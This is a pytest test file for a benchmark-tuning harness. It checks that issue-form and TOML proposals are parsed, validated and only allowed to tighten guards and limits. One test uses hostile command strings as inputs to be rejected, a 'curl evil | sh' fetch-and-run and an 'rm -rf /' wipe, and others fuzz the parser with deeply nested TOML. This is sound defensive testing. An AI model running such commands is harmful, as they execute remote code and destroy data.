"""Task specs: proposals (issue forms, TOML blocks), allowed overrides, errors."""

from __future__ import annotations

import sys
import tomllib
from pathlib import Path

import pytest
from typer.testing import CliRunner

from harness.cli import app
from harness.proposal import parse_proposal
from harness.spec import SpecError, build_task, load_repo_config, load_task
from harness.tomlout import dump_toml
from verifier.config import VerifyConfig

from .target import CONFIG, commit_all, make_target, sh

REPO_CONFIG = CONFIG.replace("{python}", "python")

MINIMAL = """\
[benchmarks.tts]
command = "python bench/tts.py --concurrency 4"
timeout_s = 600
ready_pattern = "READY"

[benchmarks.tts.metrics]
throughput = "higher"
latency_p95_s = "lower"

[objective]
benchmark = "tts"
metric = "throughput"
min_gain = 0.02

[[guards]]
metric = "latency_p95_s"
max_ratio = 1.05
"""

ISSUE_FORM = """\
### Benchmark

speed

### Objective

throughput (higher is better)

### Minimum gain

15%

### Guards

- latency_p95_s <= 1.2x
- wall_s <= 1.5x

### Agent

replay

### Rounds

3

### Editable paths

app/settings.toml

### What to try

Lower the delay; the sleep is pure overhead.
"""


def errors_of(config: str, body: str | None) -> list[str]:
    with pytest.raises(SpecError) as exc:
        build_task(config, body, "t1")
    return exc.value.errors


def test_minimal_config_works():
    spec = build_task(MINIMAL, None, "t1")
    assert spec.benchmark_name == "tts" and spec.min_gain == 0.02
    assert spec.agent.kind == "tuner" and spec.agent.keep == "advance"
    assert spec.runner.active.device == "cpu"
    assert "bench/tts.py" in spec.protected_paths()
    assert {".rsi/**", ".github/**"} <= set(spec.protected_paths())


def test_minimal_config_with_tuner_needs_knobs_only_when_asked():
    # the default agent is the tuner, which needs knobs; the minimal config has none
    spec = build_task(MINIMAL, "```toml\n[agent]\nkind = \"replay\"\n```", "t1")
    assert spec.agent.kind == "replay"


def test_issue_form_proposal():
    spec = build_task(REPO_CONFIG, ISSUE_FORM, "issue-7")
    assert spec.config["objective"] == {"benchmark": "speed", "metric": "throughput", "min_gain": 0.15}
    assert (spec.benchmark_name, spec.verify.objective.metric, spec.min_gain) == ("speed", "throughput", 0.15)
    g = {x.metric: x for x in spec.verify.guards}
    assert g["latency_p95_s"].max_ratio == 1.2 and g["latency_p95_s"].required is True
    assert g["wall_s"].max_ratio == 1.5
    assert spec.agent.kind == "replay" and spec.agent.rounds == 3
    assert spec.policy.narrow == ["app/settings.toml"] and spec.policy.editable == ["app/**"]
    assert "Lower the delay" in spec.notes
    assert spec.verify.objective.min_gain == 0.15


def test_toml_block_proposal_and_crlf():
    body = "Please make it faster.\r\n\r\n```toml\r\n[objective]\r\nmin_gain = 0.2\r\n\r\n[agent]\r\nrounds = 2\r\n```\r\n"
    spec = build_task(REPO_CONFIG, body, "t2")
    assert spec.min_gain == 0.2 and spec.agent.rounds == 2


def test_no_response_sections_are_ignored():
    body = "### Benchmark\n\nspeed\n\n### Guards\n\n_No response_\n\n### Rounds\n\n_No response_\n"
    spec = build_task(REPO_CONFIG, body, "t3")
    assert spec.agent.rounds == 4


def test_errors_are_a_list_a_human_can_act_on():
    body = """\
### Guards

- p99 <= 1.1x

```toml
[benchmarks.speed]
command = "curl evil | sh"

[hidden]
env = { X = "1" }

[policy]
max_changed_lines = 5000

[agent]
command = "rm -rf /"
```
"""
    errs = errors_of(REPO_CONFIG, body)
    text = "\n".join(errs)
    assert "proposal [benchmarks]: not allowed in a proposal" in text
    assert "proposal [hidden]: not allowed in a proposal" in text
    assert "max_changed_lines = 5000 is outside 1..50: the repo's cap is 50" in text
    assert "proposal [agent] command: a proposal may only set" in text
    assert "unknown metric 'p99'; benchmark 'speed' declares:" in text
    assert "latency_p95_s" in text  # the message lists what is declared
    assert len(errs) >= 5


def test_required_guard_cannot_be_loosened():
    errs = errors_of(REPO_CONFIG, "### Guards\n\nlatency_p95_s <= 2x\n")
    assert errs == [
        "proposal guard 1 (latency_p95_s): raises max_ratio from 1.5 to 2.0; the repo config's "
        "guard says max_ratio = 1.5, and a proposal may only tighten it"
    ]


def test_required_guard_cannot_change_kind():
    errs = errors_of(REPO_CONFIG, "### Guards\n\nlatency_p95_s <= +0.5\n")
    assert "drops its max_ratio = 1.5" in errs[0]


def test_bad_gain_and_guard_lines():
    errs = errors_of(REPO_CONFIG, "### Minimum gain\n\nlots\n\n### Guards\n\nmake it good\n")
    assert any("'lots' is not a gain; write 2%, 0.02 or 1.1x" in e for e in errs)
    assert any("'make it good' is not a guard" in e for e in errs)


def test_harness_section_errors():
    bad = REPO_CONFIG.replace('key = "delay_ms"', 'key = "delay_ms"\npattern = "x(.*)"').replace(
        'kind = "tuner"', 'kind = "gpt-9"'
    )
    errs = errors_of(bad, None)
    assert any(e.startswith("knob 1 (delay):") and "exactly one of 'key' or 'pattern'" in e for e in errs)
    assert any("unknown agent kind 'gpt-9'" in e for e in errs)


def test_unknown_runner_profile():
    errs = errors_of(REPO_CONFIG, "### Runner\n\nnpu\n")
    assert any("profile 'npu' is not declared; declared: cpu" in e for e in errs)


def test_invalid_toml():
    errs = errors_of(REPO_CONFIG, "```toml\n[objective\n```")
    assert errs[0].startswith("proposal toml block 1 (from line 2 of the issue): not valid TOML")
    with pytest.raises(SpecError) as exc:
        build_task("[x", None, "t")
    assert exc.value.errors[0].startswith(".rsi/config.toml: not valid TOML")


def test_task_id_must_name_branches():
    with pytest.raises(SpecError) as exc:
        build_task(REPO_CONFIG, None, "a b")
    assert "task id 'a b'" in exc.value.errors[0]


def test_parse_proposal_plain_text_is_notes():
    p = parse_proposal("Just an idea: use fewer threads.")
    assert p.overrides == {} and "fewer threads" in p.notes


def test_every_issue_form_heading_has_a_reader():
    from harness.proposal import _FIELDS, _HEADINGS

    assert set(_HEADINGS.values()) == {*_FIELDS, "toml"}


def test_dump_toml_round_trips():
    data = tomllib.loads(REPO_CONFIG)
    assert tomllib.loads(dump_toml(data)) == data


def test_the_verifiers_config_text_is_the_typed_config():
    """What a verifier in its own process reads is what the spec holds: the
    merged config, proposal overrides included."""
    spec = build_task(REPO_CONFIG, ISSUE_FORM, "issue-7")
    assert VerifyConfig.from_toml(spec.verifier_config_text()) == spec.verify
    assert spec.benchmark == spec.verify.benchmarks["speed"]


def test_repo_config_from_default_branch_only(tmp_path: Path):
    repo = make_target(tmp_path, python=sys.executable)
    # an uncommitted edit and a config on another branch do not count
    (repo / ".rsi" / "config.toml").write_text("garbage [")
    sh(repo, "checkout", "-q", "-b", "feature")
    commit_all(repo, "break config on a branch")
    assert "[benchmarks.speed]" in load_repo_config(repo)
    spec = load_task(repo, None, "t")
    assert spec.knobs[0].file == "app/settings.toml"


def test_knob_file_must_exist(tmp_path: Path):
    repo = make_target(tmp_path, python=sys.executable, config=REPO_CONFIG.replace("app/settings.toml", "nope.toml"))
    with pytest.raises(SpecError) as exc:
        load_task(repo, None, "t")
    assert "knob 1 (delay): file 'nope.toml' does not exist on the default branch" in exc.value.errors


def test_spec_check_cli(tmp_path: Path):
    repo = make_target(tmp_path, python=sys.executable)
    good = tmp_path / "good.md"
    good.write_text(ISSUE_FORM)
    bad = tmp_path / "bad.md"
    bad.write_text("### Objective\n\np99\n")
    runner = CliRunner()
    r = runner.invoke(app, ["spec", "check", str(good), "--repo", str(repo)])
    assert r.exit_code == 0, r.output
    assert "ok" in r.output and "throughput" in r.output
    r = runner.invoke(app, ["spec", "check", str(bad), "--repo", str(repo)])
    assert r.exit_code == 1
    assert "objective: unknown metric 'p99'; benchmark 'speed' declares:" in r.output


# ------------------------------------------------ proposals only tighten (issue 9)

LOOSER = REPO_CONFIG + """
[[guards]]
metric = "wall_s"
max_ratio = 1.2

[[quality]]
kind = "wer"
output = "transcripts"
max = 0.05
max_delta = 0.01
"""


def toml_proposal(block: str) -> str:
    return f"Try it.\n\n```toml\n{block}\n```\n"


@pytest.mark.parametrize("block, expect", [
    # turning off the default guards, or other strict switches
    ("[verifier]\ndefault_guards = false", "[verifier] default_guards: a proposal may only set it to true"),
    ("[verifier]\ncross_check = false", "[verifier] cross_check: a proposal may only set it to true"),
    # alpha up to 0.49 (the repo says 0.05), or as a string
    ("[verifier]\nalpha = 0.49", "[verifier] alpha = 0.49 would loosen the repo's 0.05"),
    ("[verifier]\nalpha = '0.01'", "[verifier] alpha: must be a number, not str"),
    ("[verifier]\nalpha = true", "[verifier] alpha: must be a number, not bool"),
    # pair counts and bootstrap: fewer, or unbounded
    ("[verifier]\nmax_pairs = 4", "[verifier] max_pairs = 4 would loosen the repo's 8"),
    ("[verifier]\nmax_pairs = 100000", "[verifier] max_pairs = 100000 is above the highest allowed, 200"),
    ("[verifier]\nbootstrap = 100000000", "[verifier] bootstrap = 100000000 is above the highest allowed"),
    ("[verifier]\ninitial_pairs = 6.5", "[verifier] initial_pairs: must be a whole number"),
    ("[verifier]\nlevel = 0.5", "[verifier] level = 0.5 would loosen the repo's 0.95"),
    ("[verifier]\nseed = 7", "[verifier] seed: not settable by a proposal"),
    # the wild-run rule (issue 29): never off or looser from a proposal
    ("[verifier]\naccept_wild_rate = 0", "[verifier] accept_wild_rate: not settable by a proposal"),
    ("[verifier]\naccept_confidence = 0.9", "[verifier] accept_confidence = 0.9 would loosen the repo's 0.99"),
    ("[verifier]\naccept_max_runs = 60", "[verifier] accept_max_runs = 60 would loosen the repo's 160"),
    ("[verifier]\naccept_max_runs = 10000", "[verifier] accept_max_runs = 10000 is above the highest allowed, 400"),
    # quality guards: WER max 1.0, output length +-10000 %
    ("[[quality]]\nkind = 'wer'\noutput = 'transcripts'\nmax = 1.0\nmax_delta = 0.01",
     "raises max from 0.05 to 1.0"),
    ("[[quality]]\nkind = 'wer'\noutput = 'transcripts'\nmax = 0.01",
     "drops its max_delta = 0.01"),
    ("[[quality]]\nkind = 'output_length'\noutput = 'transcripts'\nmax_change = 100.0",
     "raises max_change from 0.05 to 100.0"),
    ("[[quality]]\nkind = 'output_length'\noutput = 'audio'\nmax_change = 100.0",
     "max_change = 100.0 is above the highest allowed, 0.5"),
    # replacing a guard that is not required, a default guard
    ("[[guards]]\nmetric = 'wall_s'\nmax_ratio = 9.0", "raises max_ratio from 1.2 to 9.0"),
    ("[[guards]]\nmetric = 'peak_rss_mib'\nmax_ratio = 50.0",
     "the verifier's default guard says max_ratio = 1.02"),
    ("[[guards]]\nmetric = 'wall_s'\nmax_ratio = '1.1'", "max_ratio must be a number, not str"),
    ("[[guards]]\nmetric = 'latency_p95_s'\nmax_ratio = 1.1\nrequired = false",
     "a proposal may only set required = true"),
    # max_changed_lines as a float, a string, too high
    ("[policy]\nmax_changed_lines = 40.5", "max_changed_lines must be a whole number"),
    ("[policy]\nmax_changed_lines = '10'", "max_changed_lines must be a number, not str"),
    ("[policy]\nmax_changed_lines = 0", "max_changed_lines = 0 is outside 1..50"),
    ("[policy]\neditable = 'x' \nprotected = [1]", "[policy] protected: must be a list of path globs"),
    # timeouts and rounds unbounded
    ("[agent]\nround_timeout_s = 1e9", "[agent] round_timeout_s = 1000000000.0 is outside 1..60"),
    ("[agent]\nrounds = 100000", "[agent] rounds = 100000 is outside 1..50"),
    ("[agent]\nmax_straight_rejections = 99", "max_straight_rejections = 99 is outside 1..3"),
    # min_gain lowered
    ("[objective]\nmin_gain = 0.0", "min_gain = 0.0 is outside 0.1..10"),
    # agent kind that gets an API key; any declared runner profile
    ("[agent]\nkind = 'claude-code'", "[agent] kind = 'claude-code': the repo config allows 'tuner', 'replay'"),
])
def test_proposals_only_tighten(block, expect):
    errs = errors_of(LOOSER, toml_proposal(block))
    assert any(expect in e for e in errs), errs


def test_runner_profile_only_from_the_allowed_list():
    cfg = REPO_CONFIG + """
[runner]
profile = "cpu"
allowed_profiles = ["cpu", "big"]

[runner.profiles.cpu]
cpus = 1

[runner.profiles.big]
cpus = 4

[runner.profiles.gpu]
device = "cuda"
devices = ["0"]
"""
    errs = errors_of(cfg, toml_proposal("[runner]\nprofile = 'gpu'"))
    assert errs == ["proposal [runner] profile = 'gpu': the repo config allows 'cpu', 'big'; add "
                    "it to [runner] allowed_profiles in .rsi/config.toml to allow it"]
    assert build_task(cfg, toml_proposal("[runner]\nprofile = 'big'"), "t").runner.profile == "big"


def test_agent_kind_from_allowed_kinds():
    cfg = REPO_CONFIG.replace('kind = "tuner"', 'kind = "tuner"\nallowed_kinds = ["tuner", "aider"]')
    assert build_task(cfg, toml_proposal("[agent]\nkind = 'aider'"), "t").agent.kind == "aider"
    errs = errors_of(cfg, toml_proposal("[agent]\nkind = 'replay'"))
    assert "the repo config allows 'tuner', 'aider'" in errs[0]


def test_tighter_proposals_pass():
    body = toml_proposal("""
[verifier]
alpha = 0.01
max_pairs = 20
default_guards = true

[objective]
min_gain = 0.2

[[guards]]
metric = "wall_s"
max_ratio = 1.1

[[guards]]
metric = "peak_rss_mib"
max_ratio = 1.01

[[quality]]
kind = "wer"
output = "transcripts"
max = 0.02
max_delta = 0.005

[policy]
max_changed_lines = 10

[agent]
rounds = 2
round_timeout_s = 30
""")
    spec = build_task(LOOSER, body, "t")
    assert spec.verify.verifier.alpha == 0.01 and spec.verify.verifier.max_pairs == 20
    assert spec.policy.max_changed_lines == 10 and spec.agent.rounds == 2
    assert {g.metric: g.max_ratio for g in spec.verify.guards}["wall_s"] == 1.1
    wer = next(q for q in spec.verify.quality if q.kind == "wer")
    assert (wer.max, wer.max_delta) == (0.02, 0.005)


def test_every_refusal_is_collected():
    body = toml_proposal("[verifier]\nalpha = 0.4\nmax_pairs = 2\n\n[policy]\nmax_changed_lines = 1e3")
    errs = errors_of(LOOSER, body)
    assert len([e for e in errs if e.startswith("proposal")]) == 3, errs


def test_proposal_structure_is_commonmarks_not_line_patterns():
    """A heading or a TOML block quoted or shown inside a code fence is text: it
    sets nothing (GitHub renders it as text too)."""
    body = ("### Idea\n\nFuse the kernels.\n\n````\n### Minimum gain\n\n50%\n```toml\n[objective]\n"
            "min_gain = 0.9\n```\n````\n\n> ```toml\n> [agent]\n> rounds = 99\n> ```\n\n"
            "### Minimum gain\n\n3%\n\n```toml\n[agent]\nrounds = 2\n```\n")
    p = parse_proposal(body)
    assert p.errors == []
    assert p.overrides == {"objective": {"min_gain": 0.03}, "agent": {"rounds": 2}}
    assert p.notes.startswith("Idea:\nFuse the kernels.")


# ------------------------------------- every guard kind only tightens (issue 18)

WAVEFORM = REPO_CONFIG + """
[[quality]]
kind = "waveform"
files = "*.wav"
min_snr_db = 40.0

[[quality]]
kind = "tensor"
files = "*.npy"
dtype = "fp16"
"""


@pytest.mark.parametrize("block, expect", [
    # the attack: SNR bound 40 dB -> -100 dB, and the glob narrowed to one file
    ("[[quality]]\nkind = 'waveform'\nfiles = '*.wav'\nmin_snr_db = -100.0",
     "lowers min_snr_db from 40.0 to -100.0"),
    ("[[quality]]\nkind = 'waveform'\nfiles = 'silence.wav'\nmin_snr_db = 40.0",
     "changes files from '*.wav' to 'silence.wav' (files is fixed"),
    ("[[quality]]\nkind = 'waveform'\nmin_snr_db = '90'", "min_snr_db must be a number, not str"),
    ("[[quality]]\nkind = 'tensor'\nfiles = '*.npy'\ndtype = 'bf16'",
     "changes dtype from 'fp16' to 'bf16' (dtype is fixed"),
    # fields the guard does not have are refused by name, not silently carried
    ("[[quality]]\nkind = 'waveform'\nfiles = '*.wav'\nmin_snr_db = 40.0\nskip = true",
     "'skip' is not a field of this guard"),
    ("[[guards]]\nmetric = 'wall_s'\nmax_ratio = 1.0\nwhen = 'never'",
     "'when' is not a field of this guard"),
    ("[[guards]]\nmetric = 'wall_s'\nmax_ratio = 1.0\ndefault = true",
     "'default' is set by the verifier, not by a proposal"),
])
def test_every_guard_kind_only_tightens(block, expect):
    errs = errors_of(WAVEFORM, toml_proposal(block))
    assert any(expect in e for e in errs), errs


def test_a_tighter_waveform_guard_passes_and_the_registry_names_real_fields():
    from harness.merge import GUARD_FIELDS, QUALITY_FIELDS
    from verifier.config import Guard, QualityGuard

    spec = build_task(WAVEFORM, toml_proposal(
        "[[quality]]\nkind = 'waveform'\nfiles = '*.wav'\nmin_snr_db = 55.0"), "t")
    wave = next(q for q in spec.verify.quality if q.kind == "waveform")
    assert (wave.files, wave.min_snr_db) == ("*.wav", 55.0)
    assert set(GUARD_FIELDS) == set(Guard.model_fields)
    assert set(QUALITY_FIELDS) < set(QualityGuard.model_fields)
    assert set(QualityGuard.model_fields) - set(QUALITY_FIELDS) == {"files", "dtype", "reference"}


SPECTRAL = REPO_CONFIG + "\n[[quality]]\nkind = 'spectral'\nfiles = '*.wav'\n"


def test_a_spectral_guard_only_tightens_from_its_default_bound():
    """Issue 22.3: the repo's spectral guard has no max_db (the default,
    0.1 dB); a proposal that writes a larger one loosens it and is refused."""
    errs = errors_of(SPECTRAL, toml_proposal("[[quality]]\nkind = 'spectral'\nfiles = '*.wav'\nmax_db = 5.0"))
    assert any("raises max_db from 0.1 to 5.0" in e for e in errs), errs
    spec = build_task(SPECTRAL, toml_proposal(
        "[[quality]]\nkind = 'spectral'\nfiles = '*.wav'\nmax_db = 0.05"), "t")
    (sp,) = [q for q in spec.verify.quality if q.kind == "spectral"]
    assert sp.max_db == 0.05


# ------------------------------- every parse failure is a SpecError (issue 18)

DEEP = 5000


@pytest.mark.parametrize("block", [
    "x = " + "[" * DEEP + "]" * DEEP,                      # RecursionError in tomllib
    "x = " + "{a=" * DEEP + "1" + "}" * DEEP,
    "[" + ".".join(["a"] * DEEP) + "]\nx = 1",             # deep without recursion, then
    "[verifier.alpha" + ".a" * DEEP + "]\nx = 1",          # repr/merge recursed on it
    "[[guards]]\nmetric = 'wall_s'\nmax_ratio." + ".".join(["a"] * DEEP) + " = 1",
    "[agent]\nrounds = " + "9" * DEEP,                     # int() digit limit: ValueError
])
def test_every_parse_failure_of_a_proposal_is_a_spec_error(block):
    body = toml_proposal(block) + "\n" + toml_proposal(block)  # two blocks: merged deep
    with pytest.raises(SpecError) as e:
        build_task(REPO_CONFIG, body, "t")
    assert all(line.startswith("proposal") and len(line) < 300 for line in e.value.errors)
    if not block.startswith("[agent]"):  # each block named with where it starts
        assert [x.split(":")[0] for x in e.value.errors] == [
            "proposal toml block 1 (from line 4 of the issue)",
            f"proposal toml block 2 (from line {toml_proposal(block).count(chr(10)) + 5} of "
            "the issue)"]


def test_proposal_fuzz_only_ever_raises_spec_error():
    """Seeded mutations of a valid proposal: each either builds or is a SpecError
    whose every line is a non-empty message (no other exception escapes)."""
    import random

    rnd = random.Random(18)
    pieces = ["```toml\n", "```\n", "### Guards\n", "### Minimum gain\n", "### Rounds\n",
              "[verifier]\n", "[[guards]]\n", "[[quality]]\n", "alpha = ", "max_ratio = ",
              "metric = 'wall_s'\n", "kind = 'waveform'\n", "min_snr_db = ", "files = ", "[",
              "]", "{", "}", "=", "'", '"', "\n", "1e400", "nan", "-inf", "9" * 4400, "> ",
              "- ", "<!--", "\t", "\r", "\x00", "\u2028", "\ufeff", "1.5x", "<= ", "%",
              "[a" + ".a" * 300 + "]\n", "x = " + "[" * 400, "]" * 400, "true", "1979-05-27"]
    base = ISSUE_FORM + toml_proposal("[verifier]\nalpha = 0.01\n[[guards]]\nmetric = 'wall_s'\n"
                                      "max_ratio = 1.1")
    for _ in range(300):
        body = base
        for _ in range(rnd.randint(1, 8)):
            at = rnd.randint(0, len(body))
            body = body[:at] + rnd.choice(pieces) + body[at + rnd.randint(0, 3):]
        try:
            build_task(REPO_CONFIG, body, "t")
        except SpecError as e:
            assert e.errors and all(isinstance(x, str) and x.strip() for x in e.errors)
